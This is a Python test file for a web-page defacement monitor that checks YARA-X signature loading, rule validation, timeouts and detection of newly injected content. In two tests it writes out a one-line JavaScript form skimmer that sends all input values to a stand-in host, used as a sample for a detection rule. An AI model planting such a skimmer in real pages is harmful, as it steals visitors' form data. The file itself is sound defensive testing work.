"""Signatures of staff: only what is new is scanned, each names its place, and a bad file is refused by its line."""

import threading
import time
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest
import yara_x

from sentinel.detect.fields import Register
from sentinel.detect.load import Layer, load_texts
from sentinel.detect.problem import RuleProblems
from sentinel.detect.ruleset import RuleSet
from sentinel.hub.samples import proofs, sluggish
from sentinel.kit.content import signatures as room
from sentinel.kit.content.features import features_of
from sentinel.kit.content.fresh import Fresh, Known
from sentinel.kit.content.judge import Verdict, Word, judge
from sentinel.kit.content.reason import Code, Reason
from sentinel.kit.content.signatures import Hit, Signatures
from tests.kit.content.pages import HOST, WORDS, judged, page
from tests.kit.content.watch import Watch

GOOD = """
rule kucing
{
    meta:
        id = "tanda kucing"
        en = "the sign of the cat"
        verdict = "defaced"
        weight = 15
        hit = "meong-1337"
        miss = "kucing di kantor"
    strings:
        $a = /meong-[0-9]{4}/
    condition:
        $a
}
"""
FOREVER = "for all i in (0..4000000000) : (i + filesize > 0) and $a"
EMPTY = Register([])


def load(**files: str) -> RuleSet:
    named = {f"signatures/{name}.yar": text for name, text in files.items()}
    return load_texts([Layer(files={}, root="/etc/rules.d", signatures=named)], EMPTY)


def signatures(**files: str) -> Signatures:
    found = load(**files).signatures
    assert found is not None
    return found


def signed(after: str, *before: str, by: str = GOOD) -> Verdict:
    words = replace(WORDS, signatures=signatures(cat=by))
    return judge(Fresh(features_of(after), Known([features_of(text) for text in before or (page(),)], HOST)), words)


def only(verdict: Verdict) -> Reason:
    (found,) = (reason for reason in verdict.reasons if reason.code is Code.SIGNATURE)
    return found


@pytest.mark.parametrize(
    ("body", "path"),
    [
        ("<div><p>x</p><p>meong-1337 was</p></div>", "body > div > p:nth-of-type(2)"),
        ("<script>var a = 1; var b = 'meong-1337';</script>", "body > script"),
        ('<img src="/a.png" onerror="run(\'meong-1337\')">', ""),
        ('<iframe src="https://meong-1337.example/"></iframe>', "body > iframe"),
    ],
    ids=["text", "script", "event", "address"],
)
def test_what_is_new_is_scanned_and_the_place_is_named(body: str, path: str) -> None:
    verdict = signed(page(body=body))
    assert verdict.word is Word.DEFACED
    told = only(verdict)
    assert (told.name, told.text, told.weight, told.path) == ("kucing", "the sign of the cat", 1.5, path)
    assert "meong-1337" in told.said


def test_what_was_there_before_is_not_scanned() -> None:
    old = page(body="<p>meong-1337</p><script>var b = 'meong-1337', token = 'a8f';</script>")
    now = old.replace("a8f", "9c2").replace("</main>", "<p>Berita baru dari kantor</p></main>")
    assert signed(now, old).reasons == ()


def test_a_page_that_was_never_seen_is_scanned_as_a_whole() -> None:
    words = replace(WORDS, signatures=signatures(cat=GOOD))
    assert judge(Fresh(features_of(page(body="<p>meong-1337</p>")), Known([])), words).word is Word.DEFACED


def test_much_text_cannot_push_code_out() -> None:
    pad = "".join(f"<p>{'kata ' * 300}{n}x{n % 7}</p>" for n in range(160))
    assert signed(page(body=f"{pad}<script>meow('meong-1337')</script>")).word is Word.DEFACED


BAD = {
    "no hit": ('        hit = "meong-1337"\n', "", "meta lacks 'hit'"),
    "no miss": ('        miss = "kucing di kantor"\n', "", "meta lacks 'miss'"),
    "no words in Indonesian": ('        id = "tanda kucing"\n', "", "meta lacks 'id'"),
    "a key that nobody knows": ("weight = 15", "weight = 15\n        severity = 3", "unknown 'severity'"),
    "a verdict of its own": ('"defaced"', '"terrible"', "'verdict' is one of defaced, injected"),
    "a heavy weight": ("= 15", "= 900", "'weight' is a whole number of tenths"),
    "a weight in words": ("= 15", '= "much"', "'weight' is a whole number of tenths"),
}


@pytest.mark.parametrize(("old", "new", "told"), BAD.values(), ids=BAD.keys())
def test_a_signature_that_lacks_something_is_refused_by_its_line(old: str, new: str, told: str) -> None:
    with pytest.raises(RuleProblems) as refused:
        load(cat=GOOD.replace(old, new))
    assert "/etc/rules.d/signatures/cat.yar:2:6: error: kucing: " in str(refused.value)
    assert told in str(refused.value)


@pytest.mark.parametrize(
    ("old", "new", "line"),
    [("condition:\n        $a", "condition:\n        $b", 14), ("/meong", "/(meong", 12), ("rule kucing", "rule", 3)],
)
def test_what_yara_cannot_read_is_refused_by_its_line(old: str, new: str, line: int) -> None:
    with pytest.raises(RuleProblems) as refused:
        load(cat=GOOD.replace(old, new), good=GOOD.replace("kucing", "anjing"))
    assert f"/etc/rules.d/signatures/cat.yar:{line}:" in str(refused.value)


def test_a_file_may_not_read_others(tmp_path: Path) -> None:
    (tmp_path / "other.yar").write_text(GOOD, "utf-8")
    with pytest.raises(RuleProblems):
        load(cat=f'include "{tmp_path}/other.yar"\n')


def test_the_samples_are_run() -> None:
    assert all(result.ok for result in proofs(signatures(cat=GOOD)))
    wrong = signatures(cat=GOOD.replace('"meong-1337"', '"guk"').replace('"kucing di kantor"', '"meong-0000"'))
    told = [(result.test, result.source) for result in proofs(wrong) if not result.ok]
    assert told == [(f"{kind} 1", "/etc/rules.d/signatures/cat.yar:2") for kind in ("hit", "miss")]


def test_a_set_that_is_slow_is_refused() -> None:
    ticks = iter(range(1_000))
    (problem,) = sluggish(signatures(cat=GOOD), lambda: float(next(ticks)))
    assert "too slow" in problem.text
    assert list(sluggish(signatures(cat=GOOD), time.process_time)) == []


def test_a_later_folder_replaces_the_file_of_the_same_name() -> None:
    mine = GOOD.replace("kucing", "anjing")
    layers = [
        Layer(files={}, root=root, signatures={"signatures/a.yar": text}) for root, text in (("1", GOOD), ("2", mine))
    ]
    found = load_texts(layers, EMPTY).signatures
    assert found is not None
    assert list(found.known) == ["anjing"]


def test_without_yara_there_are_no_signatures_and_all_else_works(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(room, "available", lambda: False)
    assert load(cat=GOOD, bad="rule").signatures is None
    words = replace(WORDS, signatures=None)
    fresh = Fresh(features_of(page(title="Hacked by X")), Known([features_of(page())], HOST))
    assert judge(fresh, words).word is Word.DEFACED


def test_the_installed_ones_hit_what_they_are_for() -> None:
    code = "document.querySelectorAll('input').forEach(i=>d+=i.value);new Image().src='https://x.example/?'+d"
    assert "form_skimmer" in [reason.name for reason in judged(page(body=f"<script>{code}</script>")).reasons]


def test_threads_share_a_set() -> None:
    found, told = signatures(cat=GOOD), list[Hit]()
    threads = [threading.Thread(target=lambda: told.extend(found.found(b"meong-1337"))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [hit.signature.name for hit in told] == ["kucing"] * 4


ENDLESS = GOOD.replace("condition:\n        $a", f"condition:\n        {FOREVER}")


def test_a_scan_that_is_given_up_is_told_teaches_nothing_and_is_made_again(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def give_up(*_: object) -> None:
        raise yara_x.TimeoutError("timeout")

    watch, more = Watch().settle(), page(body="<p>Berita baru dari kantor kami</p>")
    with monkeypatch.context() as broken:
        broken.setattr(yara_x, "Scanner", lambda _: SimpleNamespace(set_timeout=lambda _: None, scan=give_up))
        event = watch.see(more)
        watch.see(more)
    assert event["sentinel.content.verdict"] == "unknown"
    assert event["sentinel.content.unread"] == ["signatures"]
    assert as_list(event["sentinel.content.what"])[0].startswith("signatures were not looked for")
    assert caplog.text.count("signatures were not looked for") == 2, "it is tried again"
    again = watch.see(more)
    assert (again["sentinel.content.verdict"], again["sentinel.content.unread"]) == ("clean", [])
    assert again["sentinel.content.looks"] == event["sentinel.content.looks"]


@pytest.mark.slow
def test_a_scan_without_end_ends_and_what_else_speaks_for_an_attack_counts() -> None:
    began = time.monotonic()
    verdict = signed(page(title="Hacked by X"), by=ENDLESS)
    assert time.monotonic() - began < 30
    assert verdict.word is Word.DEFACED
    assert Code.UNREAD in [reason.code for reason in verdict.reasons]
    assert signed(page(body="<p>Berita baru</p>"), by=ENDLESS).word is Word.UNKNOWN


def test_the_event_names_the_signature_and_its_place() -> None:
    watch = Watch().settle()
    code = "document.querySelectorAll('input').forEach(i=>d+=i.value);new Image().src='https://x.example/?'+d"
    event = watch.see(page(body=f"<script>{code}</script>"))
    assert event["sentinel.content.signatures"] == ["form_skimmer"]
    assert event["sentinel.content.findings"] == ["foreign"]
    assert any(" @ body > script" in place for place in as_list(event["sentinel.content.where"]))


def as_list(value: object) -> list[str]:
    assert isinstance(value, list)
    return value
